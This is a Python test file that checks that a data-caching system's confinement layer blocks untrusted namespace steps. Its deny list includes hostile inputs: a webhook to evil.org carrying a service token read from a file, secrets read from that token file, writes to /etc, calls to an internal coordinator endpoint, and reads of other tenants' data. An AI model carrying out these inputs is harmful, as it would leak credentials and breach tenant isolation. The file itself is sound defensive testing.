"""Confined steps: what flows of a namespace may touch that is not trusted."""

import pytest

from cachefs.core.tenants import Tenants
from cachefs.dataflow.ports import Observed, StepKind
from cachefs.dataflow.steps.confining import ConfinedStep
from cachefs.errors import NotAllowedError
from cachefs.testing.memory.cache import MemoryCache
from tests.unit.dataflow.steps.contexts import Steps

TENANTS = Tenants(
    ("cachefs",), ("team=s3://team-*", "*=https://hooks.example.org/*"), ("team=s3://team-b/*",)
)
DONE = Observed(done=True)


class Anything(StepKind):
    """A step that does what it is asked, and remembers that."""

    def __init__(self):
        self.asked = []

    def observe(self, _context, arguments):
        self.asked.append(arguments)
        return DONE

    def apply(self, _context, arguments):
        self.asked.append(arguments)

    def compensate(self, _context, arguments, how):
        self.asked.append((arguments, how))


def confined(kind, *, programs_here=False):
    cache = MemoryCache({"s3://team-models": {"a": 1}})
    cache.give_pool("own", "team")
    step = Anything()
    return step, ConfinedStep(kind, step, tenants=TENANTS, cache=cache, programs_here=programs_here)


ALLOWED = [
    ("prefetch", {"dataset": "llama"}),
    ("prefetch", {"dataset": "team/llama@v2"}),
    ("migrate", {"from": "s3://team-a/x", "to": "s3://team-b/y"}),
    ("migrate", {"from": "dataset:llama", "to": "s3://team-b/y"}),
    ("backup", {"dataset": "llama", "to": "s3://team-b/y"}),
    ("scale", {"pool": "own", "workers": 2}),
    ("notify", {"url": "https://hooks.example.org/x", "headers": {"X-Flow": "1"}}),
    ("process", {"command": ["true"], "image": "x", "secrets": {"A": "secret:mine/key"}}),
    ("rollout", {"target": "deployment/serve", "replicas": 2}),
    ("flow", {"name": "other"}),
    ("flow", {"document": {"metadata": {"name": "x", "namespace": "team"}}}),
]
DENIED = [
    ("prefetch", {"dataset": "others/llama"}),
    ("evict", {"dataset": "others/llama"}),
    ("migrate", {"from": "dataset:others/llama", "to": "s3://team-b/y"}),
    ("migrate", {"from": "s3://others/x", "to": "s3://team-b/y"}),
    ("migrate", {"from": "s3://team-a/x", "to": "file:///etc"}),
    ("migrate", {"from": "s3://team-a/x", "to": "s3://team-c/y"}),
    ("backup", {"dataset": "llama", "to": "s3://team-c/y"}),
    (
        "migrate",
        {"from": "s3://team-a/x", "to": "s3://team-b/y", "credentials": {"from": "env:OTHERS"}},
    ),
    ("backup", {"dataset": "llama", "to": "s3://others/y"}),
    ("scale", {"pool": "default", "workers": 0}),
    ("notify", {"url": "env:HOOK"}),
    ("notify", {"url": "http://cachefs-coordinator.cachefs:7070/v1/datasets"}),
    ("notify", {"url": "https://evil.org", "secret_headers": {"X": "file:/run/cachefs/token"}}),
    ("process", {"command": ["true"], "secrets": {"A": "file:/run/cachefs/token"}}),
    (
        "process",
        {"command": ["true"], "image": "x", "mounts": [{"dataset": "others/x", "path": "/m"}]},
    ),
    ("rollout", {"target": "local/serve", "replicas": 1, "command": ["true"]}),
    ("rollout", {"target": "deployment/serve", "replicas": 1, "hint": {"dataset": "others/x"}}),
    ("flow", {"name": "others/publish"}),
    ("flow", {"document": {"metadata": {"name": "x"}}}),
]


@pytest.mark.parametrize(("kind", "arguments"), ALLOWED, ids=str)
def test_what_is_the_namespaces_own_goes_on_to_the_step(kind, arguments):
    step, shut = confined(kind)
    context = Steps().attempt()
    assert shut.observe(context, arguments) is DONE
    shut.apply(context, arguments)
    shut.compensate(context, arguments, {})
    assert len(step.asked) == 3


@pytest.mark.parametrize(("kind", "arguments"), DENIED, ids=str)
def test_nothing_else_reaches_the_step(kind, arguments):
    step, shut = confined(kind)
    context = Steps().attempt()
    for ask in (
        lambda: shut.observe(context, arguments),
        lambda: shut.apply(context, arguments),
        lambda: shut.compensate(context, arguments, {}),
    ):
        with pytest.raises(NotAllowedError):
            ask()
    assert step.asked == []


@pytest.mark.parametrize(("kind", "arguments"), DENIED, ids=str)
def test_a_trusted_namespace_may_do_all_of_it(kind, arguments):
    step, shut = confined(kind, programs_here=True)
    shut.apply(Steps(namespace="cachefs").attempt(), arguments)
    assert step.asked == [arguments]


def test_no_program_of_the_namespace_runs_on_the_coordinators_machine():
    _, shut = confined("process", programs_here=True)
    with pytest.raises(NotAllowedError, match="machine"):
        shut.apply(Steps().attempt(), {"command": ["true"]})
